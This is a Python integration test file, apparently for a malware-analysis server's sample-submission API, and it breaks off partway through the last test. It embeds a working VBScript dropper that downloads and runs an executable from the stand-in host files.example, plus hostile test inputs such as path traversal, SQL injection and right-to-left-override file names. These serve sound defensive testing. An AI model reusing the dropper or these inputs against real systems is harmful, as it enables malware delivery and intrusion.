#!/usr/bin/env python3
"""server_samples.py HINOMI CASE - samples that are handed to a real `hinomi serve`.

Each case says what it proves in its first line. The samples are inert: scripts whose hosts do not
exist, and text."""

import glob
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "../api"))
from server import Site, check, same, wait_for  # noqa: E402

REPOSITORY = os.path.join(HERE, "../../..")
HOST = "files.example"
DROPPER = f"""u = "http://{HOST[:9]}" & "{HOST[9:]}/a.exe"
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", u, False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile "C:\\Users\\Public\\a.exe", 2
CreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe"
"""


class Scene:
    def __init__(self, program, **samples):
        self.site = Site(os.path.abspath(program))
        self.site.config["rules"]["paths"] = [
            self.site.path("rules"), os.path.join(REPOSITORY, "rules/analysis")]
        self.site.config["samples"] = {"reserved": True, **samples}

    def start(self):
        self.site.start()
        self.admin = self.site.admin()
        return self

    def token(self, role, bits, tenant=""):
        return self.site.token_client(self.site.planted_token(role, role, bits, tenant=tenant))

    def submit(self, data, name="sample.vbs", passwords=None, client=None):
        if isinstance(data, str):
            data = data.encode()
        url = "/v1/samples?name=" + quoted(name)
        if passwords:
            url += "&passwords=" + quoted("\n".join(passwords))
        return (client or self.admin).ask("POST", url, data, headers={
            "Content-Type": "application/octet-stream"})

    def taken(self, *args, **more):
        answer = self.submit(*args, **more)
        same(answer.status, 202, f"submitting: {answer}")
        return answer.json

    def done(self, sample, client=None, seconds=90):
        def look():
            answer = (client or self.admin).ok("GET", "/v1/samples/" + sample["id"]).json
            return answer if answer["state"] in ("done", "failed") else None
        return wait_for(look, "the analysis", seconds)

    def files(self):
        folder = self.site.path("data/samples/files")
        return sorted(name for name in os.listdir(folder) if len(name) == 64)

    def close(self):
        self.site.stop()


def quoted(text):
    from urllib.parse import quote
    return quote(text.encode("utf-8"), safe="")


def script(number):
    return DROPPER + f"' {number}\n"


def log_line(site, **fields):
    with open(site.path("logs/logs.jsonl"), "a", encoding="utf-8") as f:
        f.write(json.dumps({"Channel": "Microsoft-Windows-Sysmon/Operational",
                            "UtcTime": "2026-11-23 01:02:03.000", **fields}) + "\n")


def case_life(scene):
    """From a script to verdict, report in both languages, children, zip, and nothing of it in the
    clear on the disk; handed in again it is the same."""
    scene.start()
    sample = scene.taken(script(1), "ordner/böse <b>.vbs")
    same((sample["new"], sample["name"]), (True, "böse <b>.vbs"), "what was taken")
    check(sample["state"] in ("queued", "running", "done"), "its state")
    same(sample["sha256"], hashlib.sha256(script(1).encode()).hexdigest(), "the digest")
    row = scene.done(sample)
    same((row["state"], row["verdict"]), ("done", "malicious"), f"the verdict: {row['error']}")
    urls = [i for i in row["report"]["indicators"] if i["type"] == "url"]
    same([u["value"] for u in urls], [f"http://{HOST}/a.exe"], "the URL")
    again = scene.taken(script(1), "other.vbs")
    same((again["id"], again["new"], again["name"]), (row["id"], False, row["name"]), "again")
    other = scene.taken(script(1), passwords=["geheim"])
    check(other["id"] != row["id"], "with another password it is another")
    scene.done(other)
    for lang, word in (("en", "Malicious"), ("ja", "悪性")):
        page = scene.admin.ok("GET", f"/v1/samples/{row['id']}/report?lang={lang}")
        same(page.headers["Content-Type"], "text/html; charset=utf-8", "a page")
        check(page.headers["Content-Disposition"].startswith("attachment"), "it is saved")
        check(word in page.body.decode() and f"hxxp://{HOST[:5]}[.]example" in page.body.decode(), lang)
        check(b"<b>.vbs" not in page.body, "the name is escaped")
    zipped = zip_of({"a.vbs": script(2)})
    held = scene.done(scene.taken(zipped, "mail.zip"))
    children = scene.admin.ok("GET", f"/v1/samples/{held['id']}/children").json["items"]
    child = next(c for c in children if c["name"] == "a.vbs")
    same((child["sha256"], child["kept"]), (hashlib.sha256(script(2).encode()).hexdigest(), True),
         "the child")
    for query, data in (("", zipped), ("?child=" + child["sha256"], script(2).encode())):
        answer = scene.admin.ok("GET", f"/v1/samples/{held['id']}/download{query}")
        with zipfile.ZipFile(io.BytesIO(answer.body)) as archive:
            name = archive.namelist()[0]
            same((name, archive.read(name, pwd=b"infected")),
                 (hashlib.sha256(data).hexdigest(), data), "what is in the zip")
        check(data not in answer.body, "the zip is encrypted")
    same(scene.admin.get(f"/v1/samples/{held['id']}/download?child=" + "0" * 64).status, 404,
         "a child that is none")
    on_disk(scene)
    actions = [r[0] for r in scene.site.rows("SELECT action FROM audit ORDER BY seq")]
    same((actions.count("sample.submit"), actions.count("sample.download")), (4, 2), "the audit log")
    removed(scene, row, held)


def zip_of(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return out.getvalue()


def on_disk(scene):
    folder = scene.site.path("data/samples")
    same(os.stat(folder + "/key").st_mode & 0o777, 0o600, "the key's mode")
    same(os.path.getsize(folder + "/key"), 32, "the key")
    for name in scene.files():
        same(os.stat(f"{folder}/files/{name}").st_mode & 0o777, 0o600, "a file's mode")
        with open(f"{folder}/files/{name}", "rb") as f:
            data = f.read()
        check(b"CreateObject" not in data and b"indicators" not in data, "a file is encrypted")
    for table in ("sample", "sample_file", "sample_indicator"):
        check("geheim" not in str(scene.site.rows(f"SELECT * FROM {table}")), "a password is sealed")


def removed(scene, row, held):
    before = len(scene.files())
    scene.admin.ok("DELETE", "/v1/samples/" + held["id"])
    check(len(scene.files()) < before, "files are removed")
    same(scene.admin.get("/v1/samples/" + held["id"]).status, 404, "removed")
    same(scene.admin.ask("DELETE", "/v1/samples/" + held["id"]).status, 404, "removed twice")
    # Its bytes belong to the one with the password as well.
    scene.admin.ok("DELETE", "/v1/samples/" + row["id"])
    check(row["sha256"] in scene.files(), "what another one has stays")


def case_lists(scene):
    """Lists by verdict and state, page by page; each sample once, whatever comes in between."""
    scene.start()
    ids = [scene.taken(script(i), f"{i}.vbs")["id"] for i in range(5)]
    ids.append(scene.taken("nothing to see\n", "note.txt")["id"])
    for i in ids:
        scene.done({"id": i})
    listed, cursor = [], ""
    while cursor is not None:
        page = scene.admin.ok("GET", "/v1/samples?limit=2" + (cursor and "&cursor=" + cursor)).json
        listed += [r["id"] for r in page["items"]]
        cursor = page["next"]
    same(listed, ids[::-1], "all of them, newest first")
    for query, count in (("verdict=malicious", 5), ("verdict=clean", 1), ("verdict=unknown", 0),
                         ("state=done", 6), ("state=queued", 0)):
        same(len(scene.admin.ok("GET", "/v1/samples?" + query).json["items"]), count, query)
    same(scene.admin.get("/v1/samples?cursor=x").status, 400, "a cursor of nobody")
    status = scene.admin.ok("GET", "/v1/status").json["samples"]
    same((status["queued"], status["running"], status["kept"], status["workers"]), (0, 0, 6, 2),
         "the status")
    same(scene.site.metric('hinomi_samples_analysed_total{verdict="malicious"}'), 5, "a metric")
    same(scene.site.metric("hinomi_samples_kept"), 6, "a metric")


def case_roles(scene):
    """Who may not, may not; one tenant sees nothing of another, not even that it is there."""
    scene.start()
    sample = scene.taken(script(1))
    scene.done(sample)
    viewer, analyst = scene.token("viewer", 1), scene.token("analyst", 3)
    editor = scene.token("rule_editor", 7)
    same(scene.submit(script(2), client=viewer).status, 403, "a viewer hands in")
    same(scene.submit(script(2), client=scene.site.client()).status, 401, "nobody hands in")
    url = "/v1/samples/" + sample["id"]
    same(viewer.get(url).status, 200, "a viewer reads")
    same(viewer.get(url + "/download").status, 403, "a viewer downloads")
    same(analyst.get(url + "/download").status, 200, "an analyst downloads")
    same(editor.ask("DELETE", url).status, 403, "an editor removes")
    numbers = [i["number"] for i in viewer.ok("GET", url + "/indicators").json["items"]]
    wish = {"numbers": numbers, "state": "rejected"}
    same(analyst.ask("POST", url + "/indicators", wish).status, 403, "an analyst decides")
    same(editor.ask("POST", url + "/indicators", wish).status, 200, "an editor decides")
    a, b = (scene.token("rule_editor", 7, tenant="tenant-" + t) for t in "ab")
    mine = scene.taken(script(1), client=a)
    check(mine["id"] != sample["id"] and mine["new"], "each tenant has its own")
    for path in ("", "/report", "/tree", "/children", "/download", "/indicators"):
        same(b.get(f"/v1/samples/{mine['id']}{path}").status, 404, "another tenant's" + path)
    same([r["id"] for r in a.ok("GET", "/v1/samples").json["items"]], [mine["id"]], "a's list")
    same(b.ok("GET", "/v1/samples").json["items"], [], "b's list")
    same(a.ask("POST", f"/v1/samples/{mine['id']}/indicators", wish).status, 403,
         "one tenant decides for all")


def case_wrong(scene):
    """What is no sample is refused, what is larger than allowed as well; hostile names are text."""
    scene.site.config["samples"]["file"] = "64KiB"
    scene.start()
    same(scene.submit(b"").status, 422, "nothing")
    same(scene.submit(b"x" * 65537).status, 413, "too large")
    same(scene.admin.ask("POST", "/v1/samples", {"a": 1}).status, 415, "JSON")
    same(scene.admin.ask("POST", "/v1/samples?x=1", b"x", headers={
        "Content-Type": "application/octet-stream"}).status, 400, "a parameter of nobody")
    for bad in ("/v1/samples/1", "/v1/samples/" + "0" * 31, "/v1/samples/" + "g" * 32):
        same(scene.admin.get(bad).status, 400, bad)
    same(scene.admin.get("/v1/samples/" + "0" * 32).status, 404, "a sample of nobody")
    names = ["../../etc/passwd", "..\\..\\x.exe", "a\nb", "\x1b[31m", "<script>", "'; DROP TABLE",
             "x" * 255, "日本語" * 80, "..", "/", "\u202egpj.exe", "a\"b\r\nX: y"]
    for number, name in enumerate(names):
        row = scene.done(scene.taken(f"text {number}\n", name))
        same(row["state"], "done", f"{name!r}: {row['error']}")
        check("/" not in row["name"] and "\\" not in row["name"] and
              0 < len(row["name"].encode()) <= 255, f"{name!r} became {row['name']!r}")
        scene.admin.ok("GET", f"/v1/samples/{row['id']}/download")
    same({len(n) for n in scene.files()}, {64}, "names on the disk")
    url = f"/v1/samples/{row['id']}/indicators"
    for wish in ({}, {"numbers": [], "state": "accepted"}, {"numbers": [999], "state": "accepted"},
                 {"numbers": [1], "state": "x"}, {"numbers": ["1"], "state": "accepted"}):
        same(scene.admin.ask("POST", url, wish).status, 422, str(wish))


def form_of(*parts, boundary="b1", end="--\r\n"):
    """(disposition, bytes) each."""
    mark = b"--" + boundary.encode()
    return b"".join(mark + b"\r\nContent-Disposition: form-data; " + disposition.encode() + b"\r\n\r\n" +
                    data + b"\r\n" for disposition, data in parts) + mark + end.encode()


def send_form(scene, body, query="", boundary="b1"):
    return scene.admin.ask("POST", "/v1/samples" + query, body, headers={
        "Content-Type": f"multipart/form-data; boundary={boundary}"})


def case_forms(scene):
    """A form hands in as many samples as it has files, with their names and passwords; what is no
    form, too large, or says what cannot be is refused with a reason, and nothing of it is taken."""
    scene.site.config["samples"]["file"] = "64KiB"
    scene.start()
    data = [script(1).encode(), zip_of({"a.vbs": script(2)}), bytes(range(256)) * 256]
    names = ["ordner/böse.vbs", "請求書.zip", 'a \\"b\\".bin']
    items = send_form(scene, form_of(
        *((f'name="file"; filename="{n}"', d) for n, d in zip(names, data)),
        ('name="passwords"', "infected\r\n秘密\r\n".encode())))
    same(items.status, 202, f"{items}")
    items = items.json["items"]
    same([i["name"] for i in items], ["böse.vbs", "請求書.zip", 'a "b".bin'], "names")
    same([i["sha256"] for i in items], [hashlib.sha256(d).hexdigest() for d in data], "bytes")
    same([scene.done(i)["verdict"] for i in items][:2], ["malicious", "malicious"], "verdicts")
    same({i["new"] for i in items}, {True}, "new")
    again = scene.taken(data[0], "x", passwords=["infected", "秘密"])
    same((again["id"], again["new"]), (items[0]["id"], False), "the same as by itself")
    one = send_form(scene, form_of(('name="f"; filename="x"', b"other\n"), ('name="name"', b"y.txt")))
    same([i["name"] for i in one.json["items"]], ["y.txt"], "a name of the field")
    rows = len(scene.admin.ok("GET", "/v1/samples").json["items"])
    file = ('name="file"; filename="n"', b"not taken\n")
    for what, body, query, status in (
            ("empty", b"", "", 400), ("cut off", form_of(file, end=""), "", 400),
            ("no file", form_of(('name="passwords"', b"x")), "", 422),
            ("an empty file", form_of(file, ('name="f"; filename=""', b"")), "", 422),
            ("a field of nobody", form_of(file, ('name="tlp"', b"red")), "", 422),
            ("a field twice", form_of(file, ('name="name"', b"a"), ('name="name"', b"b")), "", 422),
            ("and in the query", form_of(file, ('name="name"', b"a")), "?name=b", 422),
            ("one name for two", form_of(file, file), "?name=b", 422),
            ("17 passwords", form_of(file, ('name="passwords"', b"x\n" * 17)), "", 422),
            ("a long password", form_of(file, ('name="passwords"', b"x" * 129)), "", 422),
            ("a name that is no text", form_of(file, ('name="passwords"', b"\xff")), "", 422),
            ("two dispositions", form_of(('name="a"; filename="b"\r\nContent-Disposition: form-data; '
                                          'name="c"; filename="d"', b"x")), "", 422),
            ("another boundary", form_of(file, boundary="b2"), "", 422),
            ("something before", b"x\r\n" + form_of(file), "", 422),
            ("65 files", form_of(*[file] * 65), "", 413),
            ("a large one", form_of(file, ('name="f"; filename="x"', b"x" * 65537)), "", 413),
            ("all too large", form_of(*[('name="f"; filename="x"', b"x" * 60000)] * 10), "", 413)):
        answer = send_form(scene, body, query)
        same(answer.status, status, f"{what}: {answer}")
        check(answer.is_problem and answer.json["detail"], f"{what}: a reason: {answer}")
    same(len(scene.admin.ok("GET", "/v1/samples").json["items"]), rows, "nothing of those")
    same(scene.admin.ask("POST", "/v1/samples", form_of(file), headers={
        "Content-Type": "multipart/mixed; boundary=b1"}).status, 415, "another type")
    by_curl(scene)
    by_pieces(scene, form_of(file))


def by_curl(scene):
    """What curl -F makes of files, as the documents say."""
    for name in ("c1.vbs", "c 2;\".vbs"):
        with open(scene.site.path(name), "w", encoding="utf-8") as f:
            f.write(script(name))
    token = scene.site.planted_token("curl", "analyst", 3)
    done = subprocess.run(
        ["curl", "-s", f"http://127.0.0.1:{scene.site.port}/v1/samples", "-H", f"Authorization: Bearer {token}",
         "-F", "file=@c1.vbs", "-F", 'file=@"c 2;\\".vbs"', "-F", "passwords=infected"],
        cwd=scene.site.folder, capture_output=True, text=True, check=True, timeout=60)
    names = [i["name"] for i in json.loads(done.stdout)["items"]]
    check(names in (["c1.vbs", 'c 2;".vbs'], ["c1.vbs", "c 2;%22.vbs"]), f"{names}: {done.stdout}")


def by_pieces(scene, body):
    """Over a slow line, byte by byte, and in chunks."""
    token = scene.site.planted_token("pieces", "analyst", 3)
    head = ("POST /v1/samples HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            f"Authorization: Bearer {token}\r\nContent-Type: multipart/form-data; boundary=b1\r\n")
    for chunked in (False, True):
        with socket.create_connection(("127.0.0.1", scene.site.port), timeout=60) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.sendall((head + ("Transfer-Encoding: chunked\r\n\r\n" if chunked else
                               f"Content-Length: {len(body)}\r\n\r\n")).encode())
            for i in range(len(body)):
                s.sendall(b"1\r\n" + body[i:i + 1] + b"\r\n" if chunked else body[i:i + 1])
            s.sendall(b"0\r\n\r\n" if chunked else b"")
            answer = b""
            while piece := s.recv(65536):
                answer += piece
        check(answer.startswith(b"HTTP/1.1 202 "), answer)
        check(f'"new":{"false" if chunked else "true"}'.encode() in answer, answer)


def case_at_once(scene):
    """The same sample from many at once is there once; many different ones are all there."""
    scene.start()
    answers, lock = [], threading.Lock()
    token = scene.site.planted_token("many", "analyst", 3)

    def hand_in(number):
        client = scene.site.token_client(token)
        for turn in range(10):
            answer = scene.submit(script(turn), client=client)
            with lock:
                answers.append((turn, answer.status, answer.json.get("id"), answer.json.get("new")))
        client.close()
    threads = [threading.Thread(target=hand_in, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    same({a[1] for a in answers}, {202}, "answers")
    for turn in range(10):
        same(len({a[2] for a in answers if a[0] == turn}), 1, "one id")
        same(sum(a[3] for a in answers if a[0] == turn), 1, "new once")
    for turn in range(10):
        scene.done({"id": next(a[2] for a in answers if a[0] == turn)})
    same(scene.site.rows("SELECT count(*), sum(attempts) FROM sample"), [(10, 10)], "rows")


def case_queue(scene):
    """A full queue is told and not passed over; limits of kept samples remove the oldest."""
    scene.site.config["samples"].update({"queue": 3, "workers": 1})
    scene.start()
    statuses = [scene.submit(script(i)).status for i in range(40)]
    check(429 in statuses and 202 in statuses, f"{statuses}")
    answer = next(a for a in iter(lambda: scene.submit(script(time.time_ns())), None)
                  if a.status == 429)
    check(int(answer.headers["Retry-After"]) > 0, "when to try again")
    scene.site.stop()
    scene.site.config["samples"].update({"queue": 1000, "count": 2})
    scene.start()
    ids = [scene.taken(script(1000 + i))["id"] for i in range(4)]
    for i in ids:
        wait_for(lambda i=i: scene.admin.get("/v1/samples/" + i).status == 404 or
                 scene.admin.ok("GET", "/v1/samples/" + i).json["state"] == "done", "done")
    wait_for(lambda: scene.site.rows("SELECT count(*) FROM sample") == [(2,)], "the oldest to go", 150)
    named = {r[0] for r in scene.site.rows("SELECT sha256 FROM sample_file WHERE kept=1")}
    same(set(scene.files()), named, "files that are left")


def case_killed(scene):
    """kill -9 while samples wait and are looked at: each is analysed after the next start, once."""
    scene.site.config["samples"]["workers"] = 1
    ids = set()
    for turn in range(4):
        scene.start()
        for number in range(12):
            ids.add(scene.taken(script(f"{turn}-{number}"))["id"])
        scene.site.process.kill()
        scene.site.process.wait()
        scene.site.process = None
    waiting = scene.site.rows("SELECT count(*) FROM sample WHERE state<2")[0][0]
    check(waiting > 0, "some were waiting")
    scene.start()
    for one in ids:
        same(scene.done({"id": one})["state"], "done", "a sample")
    same(scene.site.rows("SELECT count(*) FROM sample"), [(len(ids),)], "samples")
    named = {r[0] for r in scene.site.rows("SELECT sha256 FROM sample_file WHERE kept=1")}
    same(set(scene.files()), named, "files and rows")


def case_crash_points(scene):
    """Ended at the worst moments (a file without a row, a row just made, files without their rows):
    what was acknowledged is analysed, and no file is left that nobody names."""
    points = set()
    for name in glob.glob(os.path.join(REPOSITORY, "src/sample/*.c")):
        with open(name, encoding="utf-8") as source:
            points.update(re.findall(r'HN_CRASH_POINT\("(\w+)"\)', source.read()))
    check(len(points) >= 3, f"{points}")
    for point in sorted(points):
        os.environ["HINOMI_CRASH_AT"] = point
        scene.start()
        try:
            sample = scene.submit(script(point)).json
        except Exception:  # the server is gone before it has answered
            sample = None
        scene.site.process.wait(60)
        scene.site.process = None
        del os.environ["HINOMI_CRASH_AT"]
        scene.start()
        if sample:
            same(scene.done(sample)["verdict"], "malicious", point)
        same(scene.done(scene.taken(script(point)))["verdict"], "malicious", point + ", again")
        scene.site.stop()
        named = {r[0] for r in scene.site.rows("SELECT sha256 FROM sample_file WHERE kept=1")}
        same(set(scene.files()), named, f"files after {point}")


def case_journal(scene):
    """What a sample tells is found in the journal, offered, accepted, and judges from then on, until
    it expires."""
    scene.site.config["outputs"] = []
    scene.start()
    log_line(scene.site, EventID=22, Computer="pc-7", User="alice", QueryName=HOST,
             Image="C:\\x.exe")
    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["engine"]["events"] >= 1, "an event")
    row = scene.done(scene.taken(script(1)))
    hits = row["report"]["journal"]["hits"]
    same([(h["host"], h["user"], HOST in h["value"]) for h in hits], [("pc-7", "alice", True)],
         "who asked for it")
    check(row["report"]["journal"]["complete"], "all of the journal")
    page = scene.admin.ok("GET", f"/v1/samples/{row['id']}/report").body.decode()
    check("pc-7" in page and "Seen in the journal" in page, "it is in the page")
    alert = wait_for(lambda: [a for a in scene.admin.ok("GET", "/v1/alerts").json["items"]
                              if a["title"] == "Sample Handed In Is Malicious"], "an alert")
    same((len(alert), alert[0]["source"], alert[0]["level"]), (1, "samples", "high"), "of the sample")
    url = f"/v1/samples/{row['id']}/indicators"
    offered = scene.admin.ok("GET", url).json["items"]
    check({"url", "sha256"} <= {o["type"] for o in offered}, offered)
    check(all(o["state"] == "offered" for o in offered), "offered")
    number = next(o["number"] for o in offered if o["type"] == "url")
    decided = scene.admin.ok("POST", url, {"numbers": [number], "state": "accepted",
                                           "expires": "2036-01-01T00:00:00Z"}).json["items"]
    one = next(d for d in decided if d["number"] == number)
    same((one["state"], one["expires"][:10]), ("accepted", "2036-01-01"), "accepted")
    with open(scene.site.path("data/samples/indicators.csv")) as f:
        text = f.read()
    check(f"sample:{row['id']}" in text and "token:" in text and "2036-01-01" in text, text)
    log_line(scene.site, EventID=1, Computer="pc-8", User="bob",
             CommandLine=f"curl http://{HOST}/a.exe")
    alert = wait_for(lambda: scene.admin.ok("GET", "/v1/alerts?host=pc-8").json["items"], "an alert")[0]
    same(alert["kind"], "indicator", "by the accepted indicator")
    scene.admin.ok("POST", url, {"numbers": [number], "state": "rejected"})
    with open(scene.site.path("data/samples/indicators.csv")) as f:
        check(HOST not in f.read(), "rejected: gone from the list")
    log_line(scene.site, EventID=1, Computer="pc-9", User="bob",
             CommandLine=f"curl http://{HOST}/a.exe")
    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["engine"]["events"] >= 4, "an event")
    time.sleep(0.5)
    same(scene.admin.ok("GET", "/v1/alerts?host=pc-9").json["items"], [], "no alert any more")


def processes():
    """pid: (name, parent)"""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat") as f:
                name, _, rest = f.read().partition("(")[2].rpartition(")")
            found[int(pid)] = (name, int(rest.split()[1]))
        except OSError:
            pass
    return found


def below(scene):
    """Pids by what they are: the root of the nursery, its stems, warm processes, what looks at a
    sample now."""
    every = processes()
    kinds = {"root": [], "stem": [], "warm": [], "busy": []}
    above = {scene.site.process.pid: "serve"}
    names = {"serve": "root", "root": "stem", "stem": "warm", "warm": "busy"}
    while True:
        news = {pid: names[above[parent]] for pid, (_, parent) in every.items()
                if parent in above and pid not in above and above[parent] in names}
        if not news:
            return kinds
        above.update(news)
        for pid, kind in news.items():
            kinds[kind].append(pid)


def alive(scene, count, what):
    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["samples"]["workers"] == count and
             len(below(scene)["warm"]) == count, what, 30)


def case_worker_gone(scene):
    """A worker that is killed is told and comes back at once, with what it was copied from if that
    is gone as well; nothing that was handed in is lost, and nothing waits for the next start."""
    scene.start()
    alive(scene, 2, "workers")
    before = below(scene)
    same((len(before["root"]), len(before["stem"])), (1, 1), "the nursery")
    for pid in before["warm"]:
        os.kill(pid, 9)
    rows = [scene.done(scene.taken(script(number))) for number in range(6)]
    same({(r["state"], r["verdict"]) for r in rows}, {("done", "malicious")}, "all of them")
    alive(scene, 2, "others in their place")
    check(not set(below(scene)["warm"]) & set(before["warm"]), "others")
    check('"id":"samples.worker"' in scene.site.log_text(), "it is in the log")
    os.kill(before["stem"][0], 9)
    rows = [scene.done(scene.taken(script(number))) for number in range(6, 12)]
    same({(r["state"], r["verdict"]) for r in rows}, {("done", "malicious")}, "without the stem")
    alive(scene, 2, "workers of another stem")
    same({r["attempts"] for r in rows}, {1}, "each was begun once")
    # Nothing makes stems any more: who is alive goes on, samples wait once nobody is.
    os.kill(before["root"][0], 9)
    same(scene.done(scene.taken(script(20)))["verdict"], "malicious", "without the root")


def slow_zip(number):
    """Takes a worker long enough to be killed at it."""
    return zip_of({f"{i}.vbs": f"' {number} {i}\n" + "a = a & Chr(65)\n" * 3000 for i in range(60)})


def case_killed_twice(scene):
    """Whatever ends with the worker that looks at it is tried once more. The second time it is
    judged unopened, and says so; the others are analysed."""
    scene.site.config["samples"]["workers"] = 1
    scene.start()
    alive(scene, 1, "a worker")
    once = scene.taken(slow_zip(1), "once.zip")
    pid = wait_for(lambda: below(scene)["busy"], "it to be looked at")[0]
    os.kill(pid, 9)
    row = scene.done(once)
    same((row["state"], row["attempts"]), ("done", 1), "tried again")
    check("twice" not in json.dumps(row["report"]["gaps"]), row["report"]["gaps"])
    for kind in ("busy", "warm"):
        stubborn = scene.taken(slow_zip(kind), f"{kind}.zip")
        for _ in range(2):
            wait_for(lambda: below(scene)["busy"], f"{kind}.zip to be looked at")
            kinds = below(scene)
            hit = kinds[kind][0] if kinds[kind] else kinds["warm"][0]
            os.kill(hit, 9)
            wait_for(lambda: hit not in processes(), "its end")
        row = scene.done(stubborn)
        same((row["state"], row["verdict"]), ("done", "unknown"), f"{kind}: {row['error']}")
        check("twice" in json.dumps(row["report"]["gaps"]), f"{kind}: {row['report']['gaps']}")
    same(scene.done(scene.taken(script(1)))["verdict"], "malicious", "another one")


YARA = """rule Layer_Text {
  meta: description = "prints a word" score = 80
  strings: $word = "to see" condition: $word }
"""


def note(scene, number):
    """What is said of a harmless text: its facts, by name."""
    row = scene.done(scene.taken(f"nothing to see {number}\n", "note.txt"))
    facts = row["report"]["objects"][0]["facts"]
    return row, {f["name"]: f["value"] for f in facts} if isinstance(facts, list) else facts


def write(path, text):
    with open(path + ".new", "w", encoding="utf-8") as f:
        f.write(text)
    os.rename(path + ".new", path)


def log_count(scene, what):
    return scene.site.log_text().count(what)


def case_yara(scene):
    """YARA rules of the configuration judge samples; changed ones judge those that come then, broken
    ones are told with file and line and leave the old ones in force, through a reload as well."""
    os.makedirs(scene.site.path("yara"))
    rules = scene.site.path("yara/good.yar")
    write(rules, YARA)
    write(scene.site.path("yara/broken.yar"), "rule Broken {\n  condition: $none }\n")
    scene.site.config["samples"]["yara"] = [scene.site.path("yara")]
    scene.site.config["rules"]["watch"] = "1s"
    scene.start()
    check("broken.yar:2: undefined string" in scene.site.log_text(), "the broken file is told")
    row, facts = note(scene, 1)
    check("Layer_Text" in facts.get("yara_high", ""), facts)
    check(row["verdict"] != "clean", row["verdict"])
    write(rules, YARA.replace("Layer_Text", "Other_Name"))
    wait_for(lambda: "Other_Name" in note(scene, 2 + log_count(scene, "\n"))[1].get("yara_high", ""),
             "the changed rule", 30)
    refused = log_count(scene, '"id":"samples.refused"')
    write(rules, "rule Other_Name {\n  strings: $a = \"x\"\n  condition: $b }\n")
    wait_for(lambda: log_count(scene, '"id":"samples.refused"') > refused, "it to be refused", 30)
    check('good.yar:3: undefined string' in scene.site.log_text(), "file and line")
    check("the old ones stay" in scene.site.log_text(), "what is in force")
    check("Other_Name" in note(scene, "old")[1].get("yara_high", ""), "the old ones judge")
    for pid in below(scene)["warm"]:
        os.kill(pid, 9)
    answer = scene.admin.ask("POST", "/v1/rules:reload")
    check(answer.status in (200, 204), f"a reload where nothing changed: {answer}")
    os.remove(scene.site.path("yara/broken.yar"))
    write(rules, YARA.replace("Layer_Text", "Third"))
    wait_for(lambda: "Third" in note(scene, f"x{log_count(scene, chr(10))}")[1].get("yara_high", ""),
             "mended", 30)
    before = below(scene)["stem"]
    scene.site.process.send_signal(1)
    wait_for(lambda: below(scene)["stem"] and not set(below(scene)["stem"]) & set(before),
             "SIGHUP to compile them again", 30)
    check("Third" in note(scene, "last")[1].get("yara_high", ""), "after SIGHUP")
    scene.site.stop()
    write(rules, "rule Broken { condition: $none }\n")
    scene.site.spawn()
    check(scene.site.process.wait(60) != 0, "not a single rule")
    check("not a single YARA rule could be loaded" in scene.site.log_text(), "and it says so")
    scene.site.process = None


SERVERS = """
import http.server, os, socketserver, sys, threading
folder = sys.argv[1]
class Clamd(socketserver.StreamRequestHandler):
    def word(self):
        text = b""
        while not text.endswith(b"\\0"):
            text += self.rfile.read(1)
        return text[:-1]
    def handle(self):
        command, data = self.word(), b""
        if command == b"zVERSION":
            self.wfile.write(b"ClamAV 0.0.0/1/Mon Nov 23 00:00:00 2026\\0")
            return
        while (size := int.from_bytes(self.rfile.read(4), "big")) > 0:
            data += self.rfile.read(size)
        self.wfile.write(b"stream: " + (b"Txt.Test.Inert-1 FOUND" if b"to see" in data else b"OK") + b"\\0")
class Service(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(folder + "/asked", "a") as asked:
            asked.write(self.path + " " + self.headers["x-apikey"] + "\\n")
        body = open(folder + "/many.json", "rb").read()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
clamd = socketserver.ThreadingUnixStreamServer(folder + "/clamd.ctl", Clamd)
service = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Service)
threading.Thread(target=clamd.serve_forever, daemon=True).start()
print(service.server_address[1], flush=True)
threading.Thread(target=service.serve_forever, daemon=True).start()
sys.stdin.read()
""".replace("\\\\", "\\")


def many_results(digest):
    names = [f"Trojan.Inert.{i}" for i in range(12)]
    results = {str(i): {"category": "malicious", "result": n} for i, n in enumerate(names)}
    results.update({f"u{i}": {"category": "undetected", "result": None} for i in range(8)})
    return json.dumps({"data": [{"id": digest, "type": "file", "attributes": {
        "sha256": digest, "last_analysis_date": 1760000000, "last_analysis_results": results}}]})


def case_known(scene):
    """Lists of known good and bad digests, clamd, and a service with VirusTotal's API tell on samples
    of the server; a changed list judges, a broken one leaves the old in force; a clamd that is away
    is told with the sample and holds nothing up."""
    folder = scene.site.path("known")
    os.makedirs(folder)
    bad, later = (f"nothing to see {n}\n".encode() for n in ("bad", "later"))
    digest = hashlib.sha256(bad).hexdigest()
    write(folder + "/bad.txt", digest + "\n")
    write(folder + "/good.txt", hashlib.sha256(script(1).encode()).hexdigest() + "\n")
    asked = hashlib.sha256(script(3).encode()).hexdigest()
    write(folder + "/many.json", many_results(asked))
    write(folder + "/key", "sesame\n")
    with subprocess.Popen([sys.executable, "-c", SERVERS, folder], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE, text=True) as servers:
        try:
            port = int(servers.stdout.readline())
            scene.site.config["rules"]["watch"] = "1s"
            scene.site.config["samples"].update({
                "known_good": [folder + "/good.txt"], "known_bad": [folder + "/bad.txt"],
                "clamd": folder + "/clamd.ctl", "vt_key": folder + "/key",
                "vt_url": f"http://127.0.0.1:{port}/v3"})
            scene.start()
            row, facts = note(scene, "bad")
            same(row["verdict"], "malicious", f"{facts}")
